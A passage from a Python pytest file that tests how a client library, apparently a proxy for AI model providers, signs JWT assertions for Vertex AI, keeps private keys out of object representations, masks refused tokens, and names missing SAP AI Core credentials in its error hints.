    read = read_jwt(assertion, rsa_key)
    assert read["header"] == {"alg": "RS256", "typ": "JWT", "kid": "k1"}
    scope = "https://www.googleapis.com/auth/cloud-platform"
    assert read["claims"] == {"iat": 1000, "exp": 4600, "iss": "me@project.example", "scope": scope, "aud": request.url}
    assert "PRIVATE" not in repr(account)
    with pytest.raises(prx.ConfigError, match="VERTEXAI_CREDENTIALS holds no JSON object"):
        prx.Client({}, env={**env, "VERTEXAI_CREDENTIALS": "/home/me/key.json"}).accounts.get("vertexai")


def test_what_is_missing_is_named():
    """Where nothing is set, and where the provider refuses the token that was got."""
    with pytest.raises(prx.ConfigError, match="no API key") as caught:
        prx.Client({}, env={"AICORE_API_HOST": "a.example", "AICORE_AUTH_HOST": "b.example"}).accounts.get(
            "sap-ai-core"
        )
    assert caught.value.hint.startswith("Set AICORE_CLIENT_ID and AICORE_CLIENT_SECRET in the environment, or ")


def test_a_refused_token_says_where_it_is_from(folder):
    with TokenServer(echo=True) as server, prx.Client({}, folder(server), env=ENV) as api:
        server.valid = set_of_nothing()
        with pytest.raises(prx.AuthError) as caught:
            api.chat("hi", "mine/m")
        assert str(caught.value) == (
            f"mine: 401: the token *** is not valid\nThe token that was got at {server.url}/token was refused. May its credential call this model?"
        )
